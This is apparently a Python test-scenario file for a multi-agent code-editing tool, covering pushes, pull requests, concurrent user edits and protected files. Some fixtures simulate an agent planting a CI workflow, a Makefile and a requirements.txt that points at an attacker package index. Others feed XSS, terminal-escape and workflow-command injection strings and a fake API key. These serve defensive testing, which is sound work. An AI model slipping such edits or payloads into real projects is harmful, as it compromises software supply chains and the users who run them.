"""Scenarios of what becomes of a result: on the user's branch, on another, pushed, as a patch, in a pull request."""

import subprocess
import threading
from collections.abc import Callable
from typing import Any

from tests.support.edits import Respond, appends, edit_from_to, gemini_prd, no_edits, search_replace
from tests.support.hostserver import HostServer, Refusal
from tests.support.modelserver import ModelServer, Reply, Request
from tests.support.runs import Place
from tools.corpus.stage import Stage, scenario

FILES = {f"f{n}.py": f"x = {n}\n" for n in range(2)} | {"notes.txt": "notes\n"}
JOB = ("--change", "Add a *line*\nto all", "--no-prd", "--files", "f*.py", "--agents", "2")
GOOD = appends("# hi")
STEP: dict[str, Any] = {"CI": "true", "GITHUB_ACTIONS": "true"}


def with_remote(stage: Stage) -> Place:
    """The bare repository that is pushed to."""
    stage.begin(FILES)
    bare = Place(stage.repo.with_name("origin.git"), stage.home, stage.tmp)
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(bare.repo)], check=True)
    stage.git("remote", "add", "origin", str(bare.repo))
    stage.git("push", "-q", "origin", "main")
    return bare


def colleague_pushes(stage: Stage, *branches: str) -> None:
    other = Place(stage.repo.with_name("other"), stage.home, stage.tmp)
    stage.git("clone", "-q", str(stage.repo.with_name("origin.git")), str(other.repo))
    other.git("config", "user.name", "Eve")
    other.git("config", "user.email", "eve@example.com")
    other.write({"theirs.txt": "theirs\n"})
    other.commit("Theirs")
    other.git("push", "-q", "origin", *branches)


# --- given to others ------------------------------------------------------------------------------------------------


@scenario
def pull_request_after_refusals(stage: Stage) -> None:
    with_remote(stage)
    refusals = (
        [Refusal(403, {"message": "Resource not accessible by integration"})],
        [Refusal(drop=True)] * 3,
        [Refusal(429, {}, {"retry-after": "600"})],
    )
    with ModelServer(GOOD) as server, HostServer() as host:
        words: tuple[str, ...] = (*JOB, "--pr")
        for each in refusals:
            host.refusals = list(each)
            stage.run(*words, server=server, **host.environment)
            words = ("resume",)
        files: dict[str, Any] = {
            "GITHUB_OUTPUT": str(stage.home / "output"),
            "GITHUB_STEP_SUMMARY": str(stage.home / "step.md"),
        }
        stage.run("resume", server=server, **host.environment, **STEP, **files)
        stage.run("resume", server=server, **host.environment)


@scenario
def merge_request_that_exists(stage: Stage) -> None:
    with_remote(stage)
    poor = lambda request: no_edits()(request) if "f1.py" in request.files else GOOD(request)  # noqa: E731
    with ModelServer(poor) as server, HostServer("gitlab") as host:
        host.opened = [
            {"source_branch": "fix/line", "target_branch": "main", "iid": 1, "web_url": "https://x.example/1"}
        ]
        stage.run(*JOB, "--pr", "--branch", "fix/line", server=server, **host.environment)
    with ModelServer(GOOD) as server, HostServer("gitlab") as host:
        stage.run("resume", server=server, **host.environment)


@scenario
def pushed_and_as_a_patch(stage: Stage) -> None:
    with_remote(stage)
    hook = stage.repo / ".git/hooks/pre-push"
    hook.write_text("#!/bin/sh\nexit 1\n")
    hook.chmod(0o755)
    stage.play(GOOD, *JOB, "--push", "--patch", str(stage.home / "all.patch"))


@scenario
def push_refused(stage: Stage) -> None:
    bare = with_remote(stage)
    colleague_pushes(stage, "main", "main:fix/line")
    with ModelServer(GOOD) as server:
        stage.run(*JOB, "--push", "--branch", "fix/line", server=server)
        bare.git("update-ref", "-d", "refs/heads/fix/line")
        rule = bare.repo / "hooks/pre-receive"
        rule.write_text("#!/bin/sh\necho 'remote rules' >&2\nexit 1\n")
        rule.chmod(0o755)
        stage.run("resume", server=server)
        rule.unlink()
        stage.run("resume", server=server)


@scenario
def withheld_after_failing_checks(stage: Stage) -> None:
    with_remote(stage)
    check = "! grep -q hi f0.py && ! grep -q hi f1.py"  # each breaks it by itself
    words = ("--pr", "--patch", str(stage.home / "all.patch"), "--test-cmd", check)
    with ModelServer(GOOD) as server, HostServer() as host:
        stage.run(*JOB, *words, server=server, **host.environment)


@scenario
def on_a_branch_of_its_own(stage: Stage) -> None:
    stage.begin(FILES)
    stage.play(GOOD, *JOB, "--branch", "fix/line")


@scenario
def not_applied(stage: Stage) -> None:
    stage.begin(FILES)
    stage.play(GOOD, *JOB, "--no-apply")


@scenario
def told_to_a_listener(stage: Stage) -> None:
    stage.begin(FILES)
    with ModelServer(GOOD) as server, HostServer("listener") as listener:
        stage.run(*JOB, server=server, cwd=None, ORCHESTRA_NOTIFY=listener.url)
    stage.play(appends("# again"), *JOB, ORCHESTRA_NOTIFY="http://127.0.0.1:9/hooks/x")


@scenario
def in_a_job_of_gitlab(stage: Stage) -> None:
    stage.begin(FILES)
    stage.git("checkout", "-q", "--detach")
    stage.play(GOOD, *JOB, CI="true", GITLAB_CI="true")


# --- while the user works on ----------------------------------------------------------------------------------------

TESTS = "if grep -qs hi f0.py && grep -qs quiet more.py; then echo 'error: both'; exit 1; fi"


def meanwhile(stage: Stage, does: Callable[[Stage], object]) -> None:
    """What the user does after an agent has asked and before any is answered."""
    stage.begin(FILES)
    acted = threading.Event()

    def respond(request: Request) -> Reply:
        acted.wait(60)
        return GOOD(request)

    with stage.playing(respond, *JOB, "--test-cmd", TESTS) as running:
        running.wait_for_requests(1)
        does(stage)
        acted.set()


def commits(stage: Stage) -> None:
    stage.write({"mine.txt": "mine\n", "f0.py": "# above\nx = 0\n"})
    stage.commit("Mine, beside it")
    stage.write({"notes.txt": "dirty\n", "loose.txt": "loose\n"})


def takes_away(stage: Stage) -> None:
    stage.git("rm", "-q", "f0.py")
    stage.commit("It is not needed")


def breaks(stage: Stage) -> None:
    stage.write({"more.py": "# quiet\n"})
    stage.commit("Be quiet")


def edits(stage: Stage) -> None:
    stage.write({"f0.py": "x = 'mine'\n"})


def switches(stage: Stage) -> None:
    stage.git("switch", "-q", "-c", "other")
    stage.write({"mine.txt": "mine\n"})
    stage.commit("Mine")


@scenario
def user_commits_meanwhile(stage: Stage) -> None:
    meanwhile(stage, commits)


@scenario
def user_takes_a_file_away(stage: Stage) -> None:
    meanwhile(stage, takes_away)


@scenario
def user_breaks_the_result(stage: Stage) -> None:
    meanwhile(stage, breaks)


@scenario
def user_edits_the_same_file(stage: Stage) -> None:
    meanwhile(stage, edits)
    stage.git("checkout", "-q", "f0.py")
    stage.play(GOOD, "resume")


@scenario
def user_switches_branches(stage: Stage) -> None:
    meanwhile(stage, switches)


# --- what an agent may leave ----------------------------------------------------------------------------------------


def also(files: dict[str, str], own: Respond = GOOD) -> Respond:
    """The agent's own edit, and these new files."""
    more = "".join("\n" + search_replace(path, "", text) for path, text in files.items())
    return lambda request: Reply(own(request).text + more)


@scenario
def protected_refused_and_left_out(stage: Stage) -> None:
    stage.begin(FILES | {".gitignore": "*.log\n"})
    evil = {
        ".github/workflows/ci.yml": "on: push\n",
        "Makefile": "all:\n\tevil\n",
        "requirements.txt": "--index-url https://evil.example\nhttpx\n",
        ".aider_logs/.gitignore": "!*\n",
        "trace.log": "ignored\n",
        "f1.py": "foreign = True\n",
        "mine.py": "new = True\n",
    }
    stage.play(lambda request: (also(evil) if "f0.py" in request.files else GOOD)(request), *JOB)


@scenario
def protected_only(stage: Stage) -> None:
    stage.begin(FILES)
    respond = also({"Makefile": "all:\n"}, own=lambda request: Reply(""))
    stage.play(respond, *JOB[:3], "--files", "f0.py")


@scenario
def protected_that_was_named(stage: Stage) -> None:
    before = "all:\n\ttrue\n"
    stage.begin(FILES | {"Makefile": before})
    lint = edit_from_to("Makefile", before, f"{before}lint:\n\truff check\n")
    words = ("--change", "Add a lint target", "--no-prd", "--files", "f0.py", "Makefile", "--agents", "1")
    own = lambda request: Reply(edit_from_to("f0.py", "x = 0\n", "x = 0\n# hi\n") + "\n" + lint)  # noqa: E731
    stage.play(own, *words)


@scenario
def excluded_files(stage: Stage) -> None:
    """What is asked for by a glob and cannot be edited, what acts by itself, and what tools have made."""
    odd: dict[str, bytes | str] = {
        "logo.png": b"\x89PNG\x00\x01",
        "Makefile": "all:\n",
        "package-lock.json": '{"lockfileVersion": 3}\n',
    }
    stage.begin(odd | FILES | {"empty.txt": "", "latin.txt": b"caf\xe9\n"})
    stage.play(GOOD, "--change", "Add a line", "--no-prd", "--files", ".", "--agents", "2")


@scenario
def prd_that_wants_protected_files(stage: Stage) -> None:
    stage.begin(FILES | {"Makefile": "all:\n"})
    work = '[{"file": "f0.py", "do": "more"}, {"file": "Makefile", "do": "more"}, {"file": "x.py", "do": "new"}]'
    prd = f'# PRD\n\n```json\n{{"requirements": [], "work": {work}}}\n```\n'
    stage.play(gemini_prd(prd, also({"x.py": "x = 1\n"})), "--change", "Add a line", "--agents", "1")


@scenario
def odd_names_and_texts(stage: Stage) -> None:
    """Names that are hard to print, control characters, and a key in a reply: nothing that a terminal obeys."""
    names = ("na me.py", "ünïcode ☂.py", "quo'te\"d.py", "::error::x.py")
    stage.begin(dict.fromkeys(names, "x = 1\n"))
    key = "sk-proj-" + "Ab1" * 16
    text = f"\x1b[31mred\x1b[0m ::warning:: <script>alert(1)</script> &amp; ]]> \u2028 {key} " + "long " * 500
    stage.play(
        lambda request: Reply(f"{text}\n\n{GOOD(request).text}"),
        *("--change", "Say <b>hi</b> | to `all`\n\n## of them\x07", "--no-prd", "--agents", "4", "--files", *names),
    )


@scenario
def repository_without_commits(stage: Stage) -> None:
    stage.begin({})
    stage.git("update-ref", "-d", "HEAD")
    prd = '# New\n\n```json\n{"work": [{"file": "new.py", "do": "make it", "new": true}]}\n```\n'
    make = lambda request: Reply(search_replace("new.py", "", "new = 1\n"))  # noqa: E731
    stage.play(gemini_prd(prd, make), "--change", "Make it")


@scenario
def recorded_and_replayed(stage: Stage) -> None:
    """The same again, with a file that was changed first, and with other words."""
    stage.begin(FILES)
    base, tape = stage.head(), stage.home / "run.tape"
    stage.play(GOOD, *JOB, "--record", str(tape))
    none: dict[str, Any] = dict.fromkeys(("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GOOGLE_API_KEY"), "")
    stage.git("reset", "-q", "--hard", base)
    stage.run("--replay", str(tape), "--replay-strict", **none)
    stage.git("reset", "-q", "--hard", base)
    stage.write({"f1.py": "x = 'another'\n"})
    stage.commit()
    stage.run("--replay", str(tape), "--replay-strict", **none)
    stage.git("reset", "-q", "--hard", base)
    stage.run("--replay", str(tape), "--change", "Something else", "--no-apply", **none)


@scenario
def printed_as_json_and_events(stage: Stage) -> None:
    stage.begin(FILES)
    stage.play(GOOD, *JOB, "--json")
    stage.play(appends("# again"), *JOB, "--events", "-")
    stage.play(appends("# quiet"), *JOB, "--quiet")
